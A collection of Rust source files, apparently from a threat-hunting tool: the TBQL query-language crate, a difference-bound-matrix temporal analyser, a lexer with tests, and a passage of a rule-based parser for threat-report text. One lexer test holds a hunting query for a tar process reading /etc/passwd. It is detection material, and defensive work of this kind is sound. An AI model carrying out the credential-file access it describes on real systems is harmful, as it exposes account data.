//! * temporal relationships in the `with` clause (`evt1 before evt2`);
//! * optional per-pattern time windows (`window [lo, hi]`);
//! * variable-length event path patterns `proc p ~>(2~4)[read] file f`;
//! * `return distinct` projections.
//!
//! The original implementation used ANTLR 4; this is a hand-written lexer
//! + recursive-descent parser with spanned diagnostics.
//!
//! On top of parsing and semantic analysis sits a static-analysis layer:
//! a difference-bound matrix over pattern timestamps ([`dbm`]) answers
//! temporal feasibility and yields tightened per-pattern time bounds, and
//! a lint pass ([`lint`]) turns that plus filter/usage analysis into
//! structured diagnostics with stable codes.

pub mod analyze;
pub mod ast;
pub mod builder;
pub mod dbm;
pub mod error;
pub mod lexer;
pub mod lint;
pub mod parser;
pub mod printer;

pub use analyze::{analyze, AnalyzedQuery, EntityInfo};
pub use ast::*;
pub use dbm::{analyze_temporal, Dbm, PatternBounds, TemporalAnalysis};
pub use error::{Span, TbqlError};
pub use lint::{lint, Diagnostic, LintReport, Severity};
pub use parser::parse_query;
pub use printer::{print_query, strip_spans};
