//! Difference-bound matrices over pattern timestamps.
//!
//! Each pattern in an analyzed query contributes two clocks — the start
//! and end timestamp of its witnessing event (for paths: first-hop start
//! and last-hop end) — plus one shared zero clock. The query's temporal
//! operators and window predicates translate into difference constraints
//! `x − y ≤ c` over those clocks:
//!
//! * `start_i ≤ end_i` (events are well-formed intervals),
//! * `start_i ≥ 0` (timestamps are unsigned),
//! * `window [lo, hi]` on pattern *i* ⇒ `start_i ≥ lo` and `end_i ≤ hi`
//!   (exactly the executor's residual-filter semantics),
//! * `a before b` ⇒ `end_a < start_b`, i.e. `end_a − start_b ≤ −1`
//!   (timestamps are integral nanoseconds, so strict `<` tightens to a
//!   non-strict bound one unit lower).
//!
//! The Floyd–Warshall closure of the constraint graph answers two
//! questions the compiler wants before any shard is scanned:
//!
//! 1. **Feasibility** — a negative cycle (negative diagonal entry after
//!    closure) means no timestamp assignment satisfies the query; the
//!    hunt can be rejected without touching the store.
//! 2. **Tightened bounds** — the closed row/column against the zero
//!    clock yields the tightest derivable `[lo, hi]` range per pattern,
//!    which [`ShardedEngine`] uses to clamp per-pattern scans.
//!
//! [`ShardedEngine`]: ../../threatraptor_engine/struct.ShardedEngine.html

use crate::analyze::AnalyzedQuery;
use crate::ast::Pattern;

/// Weight used for "no constraint" entries. Chosen so that
/// `INF + INF` cannot overflow `i128` and any `x < INF` survives one
/// addition unscathed.
pub const INF: i128 = i128::MAX / 4;

/// A difference-bound matrix: entry `(i, j)` is the tightest known upper
/// bound on `x_i − x_j` (or [`INF`] when unconstrained). Clock 0 is the
/// zero clock, fixed at value 0.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Dbm {
    n: usize,
    w: Vec<i128>,
}

impl Dbm {
    /// Creates an unconstrained DBM over `clocks` clocks (including the
    /// zero clock), with only the trivial `x_i − x_i ≤ 0` diagonal.
    pub fn new(clocks: usize) -> Dbm {
        assert!(clocks >= 1, "a DBM needs at least the zero clock");
        let mut w = vec![INF; clocks * clocks];
        for i in 0..clocks {
            w[i * clocks + i] = 0;
        }
        Dbm { n: clocks, w }
    }

    /// Number of clocks (including the zero clock).
    pub fn clocks(&self) -> usize {
        self.n
    }

    /// Adds the constraint `x_i − x_j ≤ bound`, keeping the tighter of
    /// the new and any existing bound.
    pub fn constrain(&mut self, i: usize, j: usize, bound: i128) {
        let cell = &mut self.w[i * self.n + j];
        if bound < *cell {
            *cell = bound;
        }
    }

    /// The current upper bound on `x_i − x_j` ([`INF`] if unconstrained).
    pub fn bound(&self, i: usize, j: usize) -> i128 {
        self.w[i * self.n + j]
    }

    /// Floyd–Warshall closure: tightens every entry to the shortest
    /// constraint-graph path. Returns `false` if a negative cycle exists
    /// (the constraint system is infeasible).
    pub fn close(&mut self) -> bool {
        let n = self.n;
        for k in 0..n {
            for i in 0..n {
                let wik = self.w[i * n + k];
                if wik >= INF {
                    continue;
                }
                for j in 0..n {
                    let wkj = self.w[k * n + j];
                    if wkj >= INF {
                        continue;
                    }
                    let via = wik + wkj;
                    let cell = &mut self.w[i * n + j];
                    if via < *cell {
                        *cell = via;
                    }
                }
            }
        }
        self.feasible()
    }

    /// `true` when no diagonal entry is negative. Only meaningful after
    /// [`close`](Self::close).
    pub fn feasible(&self) -> bool {
        (0..self.n).all(|i| self.w[i * self.n + i] >= 0)
    }

    /// Tightest derivable upper bound on clock `c` relative to the zero
    /// clock (`x_c ≤ bound`), or [`INF`] when unconstrained.
    pub fn upper(&self, c: usize) -> i128 {
        self.bound(c, 0)
    }

    /// Tightest derivable lower bound on clock `c` relative to the zero
    /// clock (`x_c ≥ bound`), or `-INF` when unconstrained.
    pub fn lower(&self, c: usize) -> i128 {
        let b = self.bound(0, c);
        if b >= INF {
            -INF
        } else {
            -b
        }
    }
}

/// Feasible `[lo, hi]` time range for one pattern: any event row
/// witnessing the pattern in a *complete* match must satisfy
/// `row.start ≥ lo && row.end ≤ hi`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PatternBounds {
    /// Lower bound on the pattern's start timestamp (ns).
    pub lo: u64,
    /// Upper bound on the pattern's end timestamp (ns).
    pub hi: u64,
}

impl PatternBounds {
    /// The unconstrained range.
    pub fn unbounded() -> PatternBounds {
        PatternBounds {
            lo: 0,
            hi: u64::MAX,
        }
    }

    /// `true` when the range constrains anything at all.
    pub fn is_constrained(&self) -> bool {
        self.lo > 0 || self.hi < u64::MAX
    }
}

/// Result of running the temporal DBM over an analyzed query.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TemporalAnalysis {
    /// `false` when the temporal constraints admit no assignment
    /// (ordering cycle, empty window, or window-vs-ordering conflict).
    pub feasible: bool,
    /// Tightened per-pattern bounds, parallel to
    /// [`AnalyzedQuery::pattern_ids`]. All-unbounded when infeasible.
    pub bounds: Vec<PatternBounds>,
    /// Indices into [`AnalyzedQuery`]'s `before` list (equivalently the
    /// query's `temporal` clause) of constraints already implied by the
    /// closure of the *remaining* constraints.
    pub redundant_before: Vec<usize>,
}

/// Clock index of pattern `i`'s start timestamp.
fn start_clock(i: usize) -> usize {
    1 + 2 * i
}

/// Clock index of pattern `i`'s end timestamp.
fn end_clock(i: usize) -> usize {
    2 + 2 * i
}

/// Builds the DBM for `aq`, optionally skipping the `before` constraint
/// at index `skip` (used for redundancy probing).
fn build(aq: &AnalyzedQuery, skip: Option<usize>) -> Dbm {
    let p = aq.pattern_ids.len();
    let mut dbm = Dbm::new(1 + 2 * p);
    for (i, pat) in aq.query.patterns.iter().enumerate() {
        let (s, e) = (start_clock(i), end_clock(i));
        // start_i ≤ end_i and start_i ≥ 0.
        dbm.constrain(s, e, 0);
        dbm.constrain(0, s, 0);
        let window = match pat {
            Pattern::Event(ev) => ev.window,
            Pattern::Path(pp) => pp.window,
        };
        if let Some(w) = window {
            // start_i ≥ lo  ⇔  0 − start_i ≤ −lo
            dbm.constrain(0, s, -(w.lo as i128));
            // end_i ≤ hi  ⇔  end_i − 0 ≤ hi
            dbm.constrain(e, 0, w.hi as i128);
        }
    }
    for (k, (a, b)) in aq.before.iter().enumerate() {
        if skip == Some(k) {
            continue;
        }
        let (Some(ia), Some(ib)) = (aq.pattern_index(a), aq.pattern_index(b)) else {
            continue;
        };
        // end_a < start_b  ⇔  end_a − start_b ≤ −1 over integral ns.
        dbm.constrain(end_clock(ia), start_clock(ib), -1);
    }
    dbm
}

/// Runs the full temporal analysis: build, close, extract bounds, and
/// probe each `before` constraint for redundancy.
pub fn analyze_temporal(aq: &AnalyzedQuery) -> TemporalAnalysis {
    let p = aq.pattern_ids.len();
    let mut dbm = build(aq, None);
    if !dbm.close() {
        return TemporalAnalysis {
            feasible: false,
            bounds: vec![PatternBounds::unbounded(); p],
            redundant_before: Vec::new(),
        };
    }
    let bounds = (0..p)
        .map(|i| {
            let lo = dbm.lower(start_clock(i)).clamp(0, u64::MAX as i128) as u64;
            let hi = dbm.upper(end_clock(i)).clamp(0, u64::MAX as i128) as u64;
            PatternBounds { lo, hi }
        })
        .collect();
    // A `before` constraint is redundant when the closure of the system
    // *without* it already implies end_a − start_b ≤ −1.
    let mut redundant_before = Vec::new();
    for (k, (a, b)) in aq.before.iter().enumerate() {
        let (Some(ia), Some(ib)) = (aq.pattern_index(a), aq.pattern_index(b)) else {
            continue;
        };
        let mut probe = build(aq, Some(k));
        if probe.close() && probe.bound(end_clock(ia), start_clock(ib)) <= -1 {
            redundant_before.push(k);
        }
    }
    TemporalAnalysis {
        feasible: true,
        bounds,
        redundant_before,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::analyze;
    use crate::parse_query;

    fn temporal(tbql: &str) -> TemporalAnalysis {
        let q = parse_query(tbql).expect("parse");
        let aq = analyze(&q).expect("analyze");
        analyze_temporal(&aq)
    }

    #[test]
    fn raw_dbm_negative_cycle_detected() {
        let mut d = Dbm::new(3);
        d.constrain(1, 2, -1); // x1 − x2 ≤ −1
        d.constrain(2, 1, -1); // x2 − x1 ≤ −1
        assert!(!d.close());
        assert!(!d.feasible());
    }

    #[test]
    fn raw_dbm_chain_tightens_transitively() {
        let mut d = Dbm::new(4);
        d.constrain(1, 2, -5);
        d.constrain(2, 3, -7);
        assert!(d.close());
        assert_eq!(d.bound(1, 3), -12);
        assert_eq!(d.bound(1, 2), -5);
    }

    #[test]
    fn unconstrained_query_is_feasible_and_unbounded() {
        let t = temporal(r#"proc p read file f as e1 return p"#);
        assert!(t.feasible);
        assert_eq!(t.bounds, vec![PatternBounds::unbounded()]);
        assert!(t.redundant_before.is_empty());
    }

    #[test]
    fn ordering_cycle_is_infeasible() {
        let t = temporal(
            r#"proc p read file f as e1
               proc p write file g as e2
               with e1 before e2, e2 before e1
               return p"#,
        );
        assert!(!t.feasible);
    }

    #[test]
    fn empty_window_is_infeasible() {
        let t = temporal(r#"proc p read file f as e1 window [900, 100] return p"#);
        assert!(!t.feasible);
    }

    #[test]
    fn ordering_against_windows_is_infeasible() {
        // e1 must end before e2 starts, but e1 lives at [300, 400] and
        // e2 at [100, 200].
        let t = temporal(
            r#"proc p read file f as e1 window [300, 400]
               proc p write file g as e2 window [100, 200]
               with e1 before e2
               return p"#,
        );
        assert!(!t.feasible);
    }

    #[test]
    fn windows_propagate_through_before_chain() {
        // e1 ends ≤ 200 and e1 < e2 < e3, so e2 starts ≥ … and e3
        // inherits both its own window and the chain.
        let t = temporal(
            r#"proc p read file f as e1 window [100, 200]
               proc p write file g as e2
               proc p execute file h as e3 window [0, 900]
               with e1 before e2, e2 before e3
               return p"#,
        );
        assert!(t.feasible);
        // e1: its own window.
        assert_eq!(t.bounds[0], PatternBounds { lo: 100, hi: 200 });
        // e2: starts after e1 ends (≥ window lo + 1 = 101), ends before
        // e3 starts, and e3 ends ≤ 900 ⇒ e2.end ≤ 899.
        assert_eq!(t.bounds[1], PatternBounds { lo: 101, hi: 899 });
        // e3: starts after e2 which starts after e1 ⇒ ≥ 102.
        assert_eq!(t.bounds[2], PatternBounds { lo: 102, hi: 900 });
        assert!(t.redundant_before.is_empty());
    }

    #[test]
    fn transitive_before_is_redundant() {
        let t = temporal(
            r#"proc p read file f as e1
               proc p write file g as e2
               proc p execute file h as e3
               with e1 before e2, e2 before e3, e1 before e3
               return p"#,
        );
        assert!(t.feasible);
        assert_eq!(t.redundant_before, vec![2]);
    }

    #[test]
    fn duplicate_before_is_redundant() {
        let t = temporal(
            r#"proc p read file f as e1
               proc p write file g as e2
               with e1 before e2, e1 before e2
               return p"#,
        );
        assert!(t.feasible);
        // Each copy is implied by the other; both probe as redundant.
        assert_eq!(t.redundant_before, vec![0, 1]);
    }

    #[test]
    fn window_tightening_respects_u64_domain() {
        let t = temporal(
            r#"proc p read file f as e1
               proc p write file g as e2 window [0, 50]
               with e1 before e2
               return p"#,
        );
        assert!(t.feasible);
        // e1 must fully precede e2 whose start ≤ end ≤ 50 ⇒ e1.end ≤ 49.
        assert_eq!(t.bounds[0], PatternBounds { lo: 0, hi: 49 });
        assert_eq!(t.bounds[1], PatternBounds { lo: 1, hi: 50 });
    }
}
