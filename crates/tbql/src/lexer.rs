//! TBQL lexer.

use crate::error::{Span, TbqlError};
use std::fmt;

/// Token kinds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Tok {
    /// Identifier or keyword (`proc`, `p1`, `read`, …).
    Ident(String),
    /// Double-quoted string literal (unescaped content).
    Str(String),
    /// Integer literal.
    Int(i64),
    /// `[`
    LBracket,
    /// `]`
    RBracket,
    /// `(`
    LParen,
    /// `)`
    RParen,
    /// `,`
    Comma,
    /// `.`
    Dot,
    /// `=`
    Eq,
    /// `!=`
    Ne,
    /// `<`
    Lt,
    /// `<=`
    Le,
    /// `>`
    Gt,
    /// `>=`
    Ge,
    /// `||`
    OrOr,
    /// `&&`
    AndAnd,
    /// `~>`
    PathArrow,
    /// `~`
    Tilde,
    /// End of input.
    Eof,
}

impl fmt::Display for Tok {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Tok::Ident(s) => write!(f, "`{s}`"),
            Tok::Str(s) => write!(f, "\"{s}\""),
            Tok::Int(i) => write!(f, "{i}"),
            Tok::LBracket => f.write_str("`[`"),
            Tok::RBracket => f.write_str("`]`"),
            Tok::LParen => f.write_str("`(`"),
            Tok::RParen => f.write_str("`)`"),
            Tok::Comma => f.write_str("`,`"),
            Tok::Dot => f.write_str("`.`"),
            Tok::Eq => f.write_str("`=`"),
            Tok::Ne => f.write_str("`!=`"),
            Tok::Lt => f.write_str("`<`"),
            Tok::Le => f.write_str("`<=`"),
            Tok::Gt => f.write_str("`>`"),
            Tok::Ge => f.write_str("`>=`"),
            Tok::OrOr => f.write_str("`||`"),
            Tok::AndAnd => f.write_str("`&&`"),
            Tok::PathArrow => f.write_str("`~>`"),
            Tok::Tilde => f.write_str("`~`"),
            Tok::Eof => f.write_str("end of input"),
        }
    }
}

/// A token with its source span.
#[derive(Debug, Clone, PartialEq)]
pub struct SpannedTok {
    /// The token.
    pub tok: Tok,
    /// Its span.
    pub span: Span,
}

/// Lexes a query into tokens (plus a trailing [`Tok::Eof`]).
///
/// `//` comments run to end of line; whitespace separates tokens.
pub fn lex(src: &str) -> Result<Vec<SpannedTok>, TbqlError> {
    let bytes = src.as_bytes();
    let mut out = Vec::new();
    let mut i = 0usize;
    while i < bytes.len() {
        let c = bytes[i] as char;
        if c.is_whitespace() {
            i += 1;
            continue;
        }
        if c == '/' && bytes.get(i + 1) == Some(&b'/') {
            while i < bytes.len() && bytes[i] != b'\n' {
                i += 1;
            }
            continue;
        }
        let start = i;
        let tok = match c {
            '[' => {
                i += 1;
                Tok::LBracket
            }
            ']' => {
                i += 1;
                Tok::RBracket
            }
            '(' => {
                i += 1;
                Tok::LParen
            }
            ')' => {
                i += 1;
                Tok::RParen
            }
            ',' => {
                i += 1;
                Tok::Comma
            }
            '.' => {
                i += 1;
                Tok::Dot
            }
            '=' => {
                i += 1;
                Tok::Eq
            }
            '!' => {
                if bytes.get(i + 1) == Some(&b'=') {
                    i += 2;
                    Tok::Ne
                } else {
                    return Err(TbqlError::new(Span::new(i, i + 1), "expected `!=`"));
                }
            }
            '<' => {
                if bytes.get(i + 1) == Some(&b'=') {
                    i += 2;
                    Tok::Le
                } else {
                    i += 1;
                    Tok::Lt
                }
            }
            '>' => {
                if bytes.get(i + 1) == Some(&b'=') {
                    i += 2;
                    Tok::Ge
                } else {
                    i += 1;
                    Tok::Gt
                }
            }
            '|' => {
                if bytes.get(i + 1) == Some(&b'|') {
                    i += 2;
                    Tok::OrOr
                } else {
                    return Err(TbqlError::new(Span::new(i, i + 1), "expected `||`"));
                }
            }
            '&' => {
                if bytes.get(i + 1) == Some(&b'&') {
                    i += 2;
                    Tok::AndAnd
                } else {
                    return Err(TbqlError::new(Span::new(i, i + 1), "expected `&&`"));
                }
            }
            '~' => {
                if bytes.get(i + 1) == Some(&b'>') {
                    i += 2;
                    Tok::PathArrow
                } else {
                    i += 1;
                    Tok::Tilde
                }
            }
            '"' => {
                i += 1;
                let mut s = String::new();
                loop {
                    match bytes.get(i) {
                        None => {
                            return Err(TbqlError::new(
                                Span::new(start, i),
                                "unterminated string literal",
                            ))
                        }
                        Some(b'"') => {
                            i += 1;
                            break;
                        }
                        Some(b'\\') => {
                            // Escapes: \" \\ \n \t
                            match bytes.get(i + 1) {
                                Some(b'"') => s.push('"'),
                                Some(b'\\') => s.push('\\'),
                                Some(b'n') => s.push('\n'),
                                Some(b't') => s.push('\t'),
                                other => {
                                    return Err(TbqlError::new(
                                        Span::new(i, i + 2),
                                        format!(
                                            "unknown string escape `\\{}`",
                                            other.map(|&b| b as char).unwrap_or(' ')
                                        ),
                                    ))
                                }
                            }
                            i += 2;
                        }
                        Some(&b) => {
                            // Multi-byte UTF-8 is copied as-is.
                            let ch_len = utf8_len(b);
                            s.push_str(&src[i..i + ch_len]);
                            i += ch_len;
                        }
                    }
                }
                Tok::Str(s)
            }
            c if c.is_ascii_digit() => {
                while i < bytes.len() && (bytes[i] as char).is_ascii_digit() {
                    i += 1;
                }
                let text = &src[start..i];
                let v: i64 = text.parse().map_err(|_| {
                    TbqlError::new(
                        Span::new(start, i),
                        format!("integer `{text}` out of range"),
                    )
                })?;
                Tok::Int(v)
            }
            c if c.is_alphabetic() || c == '_' => {
                while i < bytes.len() {
                    let ch = bytes[i] as char;
                    if ch.is_alphanumeric() || ch == '_' {
                        i += 1;
                    } else {
                        break;
                    }
                }
                Tok::Ident(src[start..i].to_string())
            }
            other => {
                return Err(TbqlError::new(
                    Span::new(i, i + 1),
                    format!("unexpected character `{other}`"),
                ))
            }
        };
        out.push(SpannedTok {
            tok,
            span: Span::new(start, i),
        });
    }
    out.push(SpannedTok {
        tok: Tok::Eof,
        span: Span::new(src.len(), src.len()),
    });
    Ok(out)
}

fn utf8_len(first: u8) -> usize {
    match first {
        0x00..=0x7f => 1,
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        _ => 4,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(src: &str) -> Vec<Tok> {
        lex(src).unwrap().into_iter().map(|t| t.tok).collect()
    }

    #[test]
    fn fig2_first_line() {
        let got = toks(r#"proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as evt1"#);
        assert_eq!(
            got,
            vec![
                Tok::Ident("proc".into()),
                Tok::Ident("p1".into()),
                Tok::LBracket,
                Tok::Str("%/bin/tar%".into()),
                Tok::RBracket,
                Tok::Ident("read".into()),
                Tok::Ident("file".into()),
                Tok::Ident("f1".into()),
                Tok::LBracket,
                Tok::Str("%/etc/passwd%".into()),
                Tok::RBracket,
                Tok::Ident("as".into()),
                Tok::Ident("evt1".into()),
                Tok::Eof,
            ]
        );
    }

    #[test]
    fn operators_and_path_syntax() {
        assert_eq!(
            toks("p ~>(2~4)[read] f"),
            vec![
                Tok::Ident("p".into()),
                Tok::PathArrow,
                Tok::LParen,
                Tok::Int(2),
                Tok::Tilde,
                Tok::Int(4),
                Tok::RParen,
                Tok::LBracket,
                Tok::Ident("read".into()),
                Tok::RBracket,
                Tok::Ident("f".into()),
                Tok::Eof,
            ]
        );
        assert_eq!(
            toks("a = 1 && b != 2 || c <= 3 >= < >"),
            vec![
                Tok::Ident("a".into()),
                Tok::Eq,
                Tok::Int(1),
                Tok::AndAnd,
                Tok::Ident("b".into()),
                Tok::Ne,
                Tok::Int(2),
                Tok::OrOr,
                Tok::Ident("c".into()),
                Tok::Le,
                Tok::Int(3),
                Tok::Ge,
                Tok::Lt,
                Tok::Gt,
                Tok::Eof,
            ]
        );
    }

    #[test]
    fn comments_and_whitespace() {
        let got = toks("proc p1 // subject\n  read file f1");
        assert_eq!(got.len(), 6);
        assert_eq!(got[2], Tok::Ident("read".into()));
    }

    #[test]
    fn string_escapes() {
        assert_eq!(
            toks(r#""a\"b\\c""#),
            vec![Tok::Str("a\"b\\c".into()), Tok::Eof]
        );
    }

    #[test]
    fn errors() {
        assert!(lex("\"unterminated").is_err());
        assert!(lex("a | b").is_err());
        assert!(lex("a & b").is_err());
        assert!(lex("a ! b").is_err());
        assert!(lex("@").is_err());
        assert!(lex(r#""bad \q escape""#).is_err());
        assert!(lex("99999999999999999999").is_err());
    }

    #[test]
    fn spans_track_source() {
        let lexed = lex("proc p1").unwrap();
        assert_eq!(lexed[0].span, Span::new(0, 4));
        assert_eq!(lexed[1].span, Span::new(5, 7));
    }
}
