//! Deterministic rule-based dependency parsing (Algorithm 1, stage 3).
//!
//! The original pipeline calls spaCy's statistical parser; this one is a
//! head-finding rule cascade tuned to the English of threat reports. Rules
//! run as ordered passes over the tagged token sequence; every pass only
//! attaches so-far-unattached tokens, and a final repair pass guarantees a
//! single-rooted, acyclic tree ([`crate::dep::DepTree::validate`] holds on
//! every output).

use crate::dep::{DepLabel, DepNode, DepTree, NodeAnn};
use crate::pos::{tag, PosTag};
use crate::token::Token;

/// Parses a tagged sentence into a dependency tree.
pub fn parse(tokens: Vec<Token>) -> DepTree {
    let tags = tag(&tokens);
    parse_tagged(tokens, tags)
}

/// Parses with externally supplied tags (used by tests).
pub fn parse_tagged(tokens: Vec<Token>, tags: Vec<PosTag>) -> DepTree {
    let n = tokens.len();
    let mut p = ParserState {
        heads: vec![None; n],
        labels: vec![DepLabel::Dep; n],
        tags,
        tokens,
    };
    if n == 0 {
        return DepTree {
            nodes: Vec::new(),
            root: 0,
        };
    }
    let runs = p.nominal_runs();
    p.attach_verb_chain(&runs);
    let verbs = p.verb_heads();
    let root = p.pick_root(&verbs, &runs);
    p.attach_clauses(&verbs, root);
    p.attach_np_internals(&runs);
    p.attach_appositions(&runs);
    p.attach_prepositions(&runs, &verbs);
    p.attach_conjunctions(&runs, &verbs);
    p.attach_subjects(&verbs, &runs);
    p.attach_objects(&verbs, &runs);
    p.attach_punct_and_rest(root);
    p.repair(root);
    p.into_tree(root)
}

/// A maximal nominal run `[start, end]` with its head token index.
#[derive(Debug, Clone, Copy, PartialEq)]
struct Run {
    start: usize,
    end: usize, // inclusive
    head: usize,
}

struct ParserState {
    tokens: Vec<Token>,
    tags: Vec<PosTag>,
    heads: Vec<Option<usize>>,
    labels: Vec<DepLabel>,
}

impl ParserState {
    fn n(&self) -> usize {
        self.tokens.len()
    }

    fn attach(&mut self, child: usize, head: usize, label: DepLabel) {
        if child != head && self.heads[child].is_none() {
            self.heads[child] = Some(head);
            self.labels[child] = label;
        }
    }

    fn is_verb(&self, i: usize) -> bool {
        self.tags[i] == PosTag::Verb
    }

    /// Maximal runs of `Det/Adj/Num/Noun/Pron`; head = last nominal.
    fn nominal_runs(&self) -> Vec<Run> {
        let mut runs = Vec::new();
        let mut i = 0usize;
        while i < self.n() {
            let in_np = matches!(
                self.tags[i],
                PosTag::Det | PosTag::Adj | PosTag::Num | PosTag::Noun | PosTag::Pron
            );
            if !in_np {
                i += 1;
                continue;
            }
            let start = i;
            let mut last_nominal = None;
            while i < self.n()
                && matches!(
                    self.tags[i],
                    PosTag::Det | PosTag::Adj | PosTag::Num | PosTag::Noun | PosTag::Pron
                )
            {
                if self.tags[i].is_nominal() {
                    last_nominal = Some(i);
                }
                i += 1;
            }
            let end = i - 1;
            if let Some(head) = last_nominal {
                runs.push(Run { start, end, head });
            }
        }
        runs
    }

    /// AUX tokens attach to the nearest following verb (aux/auxpass);
    /// infinitival `to` attaches as mark; `not` as advmod.
    fn attach_verb_chain(&mut self, _runs: &[Run]) {
        for i in 0..self.n() {
            match self.tags[i] {
                PosTag::Aux => {
                    if let Some(v) = self.next_verb_within(i, 3) {
                        let passive = self.is_passive_participle(v);
                        self.attach(
                            i,
                            v,
                            if passive {
                                DepLabel::AuxPass
                            } else {
                                DepLabel::Aux
                            },
                        );
                    }
                }
                PosTag::Part => {
                    if let Some(v) = self.next_verb_within(i, 2) {
                        self.attach(i, v, DepLabel::Mark);
                    }
                }
                _ => {}
            }
        }
    }

    fn next_verb_within(&self, i: usize, dist: usize) -> Option<usize> {
        (i + 1..self.n().min(i + 1 + dist)).find(|&j| self.is_verb(j))
    }

    fn prev_verb(&self, i: usize) -> Option<usize> {
        (0..i).rev().find(|&j| self.is_verb(j))
    }

    fn is_passive_participle(&self, v: usize) -> bool {
        let w = self.tokens[v].lower();
        let irregular_participle = matches!(
            w.as_str(),
            "written" | "read" | "sent" | "stolen" | "taken" | "hidden" | "done" | "seen"
        );
        (w.ends_with("ed") || w.ends_with("en") || irregular_participle)
            && (0..v).rev().take(3).any(|j| {
                self.tags[j] == PosTag::Aux
                    && matches!(
                        self.tokens[j].lower().as_str(),
                        "is" | "are" | "was" | "were" | "be" | "been" | "being"
                    )
            })
    }

    fn verb_heads(&self) -> Vec<usize> {
        (0..self.n()).filter(|&i| self.is_verb(i)).collect()
    }

    /// Picks the sentence root: the first verb not marked by `to`, not a
    /// gerund right after a preposition/noun, else the first verb, else
    /// the first copular AUX, else the first nominal-run head, else 0.
    fn pick_root(&self, verbs: &[usize], runs: &[Run]) -> usize {
        for &v in verbs {
            let has_mark = v > 0 && self.tags[v - 1] == PosTag::Part;
            let gerund_after_adp_or_noun = self.tokens[v].lower().ends_with("ing")
                && v > 0
                && matches!(self.tags[v - 1], PosTag::Adp | PosTag::Noun | PosTag::Pron);
            if !has_mark && !gerund_after_adp_or_noun {
                return v;
            }
        }
        if let Some(&v) = verbs.first() {
            return v;
        }
        if let Some(cop) = (0..self.n()).find(|&i| self.tags[i] == PosTag::Aux) {
            return cop;
        }
        if let Some(run) = runs.first() {
            return run.head;
        }
        0
    }

    /// Attaches non-root verbs: xcomp (after `to`), acl (gerund after a
    /// nominal), pcomp (gerund after preposition), conj (after cc /
    /// comma), else conj to root.
    fn attach_clauses(&mut self, verbs: &[usize], root: usize) {
        for &v in verbs {
            if v == root || self.heads[v].is_some() {
                continue;
            }
            // `to <verb>` → xcomp of nearest preceding verb.
            if v > 0 && self.tags[v - 1] == PosTag::Part {
                if let Some(g) = self.prev_verb_excluding(v, v) {
                    self.attach(v, g, DepLabel::Xcomp);
                    continue;
                }
            }
            let w = self.tokens[v].lower();
            if w.ends_with("ing") && v > 0 {
                // Gerund after preposition → pcomp; after a nominal → acl.
                if self.tags[v - 1] == PosTag::Adp {
                    self.attach(v, v - 1, DepLabel::Pcomp);
                    // The preposition needs a head too; give it the
                    // nearest preceding verb or root (prep).
                    let phead = self.prev_verb(v - 1).unwrap_or(root);
                    self.attach(v - 1, phead, DepLabel::Prep);
                    continue;
                }
                if matches!(self.tags[v - 1], PosTag::Noun | PosTag::Pron) {
                    self.attach(v, v - 1, DepLabel::Acl);
                    continue;
                }
            }
            // After a coordinator or comma → conj of previous verb.
            let prev_non_adv = (0..v).rev().find(|&j| self.tags[j] != PosTag::Adv);
            if let Some(j) = prev_non_adv {
                if self.tags[j] == PosTag::Conj
                    || (self.tags[j] == PosTag::Punct && self.tokens[j].text == ",")
                {
                    if let Some(g) = self.prev_verb_excluding(j, v) {
                        self.attach(v, g, DepLabel::Conj);
                        continue;
                    }
                }
            }
            self.attach(v, root, DepLabel::Conj);
        }
    }

    fn prev_verb_excluding(&self, before: usize, exclude: usize) -> Option<usize> {
        (0..before).rev().find(|&j| self.is_verb(j) && j != exclude)
    }

    /// Det/Adj/Num/Compound attachments inside nominal runs.
    fn attach_np_internals(&mut self, runs: &[Run]) {
        for run in runs {
            for i in run.start..=run.end {
                if i == run.head {
                    continue;
                }
                let label = match self.tags[i] {
                    PosTag::Det => DepLabel::Det,
                    PosTag::Adj => DepLabel::Amod,
                    PosTag::Num => DepLabel::Nummod,
                    PosTag::Noun | PosTag::Pron => DepLabel::Compound,
                    _ => DepLabel::Dep,
                };
                self.attach(i, run.head, label);
            }
        }
    }

    /// A nominal run following another run with only `(`/`,` between →
    /// apposition ("the curl utility (/usr/bin/curl)").
    fn attach_appositions(&mut self, runs: &[Run]) {
        for w in runs.windows(2) {
            let (a, b) = (w[0], w[1]);
            let gap = &(a.end + 1..b.start);
            let only_open_punct = gap.clone().all(|i| {
                self.tags[i] == PosTag::Punct && matches!(self.tokens[i].text.as_str(), "(" | ",")
            });
            if !gap.is_empty() && only_open_punct {
                self.attach(b.head, a.head, DepLabel::Appos);
            }
        }
    }

    /// Prepositions attach to the nearest preceding verb (else nominal
    /// head, else root); their object is the head of the next nominal
    /// run. Passive `by` becomes agent.
    fn attach_prepositions(&mut self, runs: &[Run], _verbs: &[usize]) {
        for i in 0..self.n() {
            if self.tags[i] != PosTag::Adp || self.heads[i].is_some() {
                continue;
            }
            // Attachment point.
            let head = self
                .prev_verb(i)
                .or_else(|| runs.iter().rev().find(|r| r.head < i).map(|r| r.head))
                .unwrap_or(0);
            let is_agent = self.tokens[i].lower() == "by"
                && self
                    .prev_verb(i)
                    .is_some_and(|v| self.is_passive_participle(v));
            self.attach(
                i,
                head,
                if is_agent {
                    DepLabel::Agent
                } else {
                    DepLabel::Prep
                },
            );
            // Object: head of the next nominal run (if it starts within a
            // few tokens).
            if let Some(run) = runs.iter().find(|r| r.start > i) {
                if run.start <= i + 3 {
                    self.attach(run.head, i, DepLabel::Pobj);
                }
            }
        }
    }

    /// Coordinators attach as cc; nominal conjuncts to the left conjunct.
    fn attach_conjunctions(&mut self, runs: &[Run], _verbs: &[usize]) {
        for i in 0..self.n() {
            if self.tags[i] != PosTag::Conj || self.heads[i].is_some() {
                continue;
            }
            // Left conjunct: nearest preceding verb or run head.
            let left_verb = self.prev_verb(i);
            let left_run = runs.iter().rev().find(|r| r.end < i).map(|r| r.head);
            // Right conjunct: verb or run right after.
            let right_verb = self.next_verb_within(i, 2);
            let right_run = runs.iter().find(|r| r.start > i).map(|r| r.head);
            match (right_verb, right_run) {
                // Verb coordination handled in attach_clauses; just place cc.
